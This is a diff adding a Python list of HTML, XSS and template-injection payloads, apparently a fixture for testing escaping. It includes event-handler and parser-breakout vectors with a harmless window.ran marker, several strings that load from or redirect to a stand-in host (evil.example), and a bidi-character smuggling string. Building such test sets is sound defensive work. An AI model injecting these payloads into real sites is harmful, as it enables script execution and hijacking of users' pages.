@@ -1,0 +1,36 @@
+"""Texts that run, load or break something where a page takes them for markup."""
+
+from typing import Final
+
+PAYLOADS: Final = [
+    "<script>window.ran=1</script>",
+    "\"><img src=x onerror='window.ran=1'>",
+    "' autofocus onfocus='window.ran=1",
+    '" autofocus onfocus="window.ran=1',
+    "` onmouseover=`window.ran=1",
+    "</textarea><svg onload=window.ran=1>",
+    "</pre><iframe srcdoc='<script>parent.ran=1</script>'>",
+    "</title><script>window.ran=1</script>",
+    "</option></select><img src=x onerror=window.ran=1>",
+    "</code></td></tr></table><video><source onerror=window.ran=1>",
+    "--><script>window.ran=1</script><!--",
+    "<!--><img src=x onerror=window.ran=1>-->",
+    "]]><script>window.ran=1</script>",
+    "<svg><script>window.ran=1</script></svg>",
+    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=window.ran=1>",
+    "<details open ontoggle=window.ran=1>",
+    "<body onload=window.ran=1>",
+    "<object data='javascript:window.ran=1'>",
+    "<base href='//evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href='//evil.example/x.css'>",
+    "<form action='//evil.example'><button autofocus>x</button></form>",
+    "<a href='//evil.example'>x</a>",
+    "[x](//evil.example) ![x](//evil.example/y.png)",
+    "javascript:window.ran=1",
+    "{{ 7*191 }}{% for x in y %}${7*191}#{7*191}",
+    "<img hx-get='//evil.example' hx-trigger='load'>",
+    "\u202e\u200b<hx-partial hx-get='//evil.example'>",
+    "&lt;script&gt;window.ran=1&lt;/script&gt;&#60;script&#62;",
+]
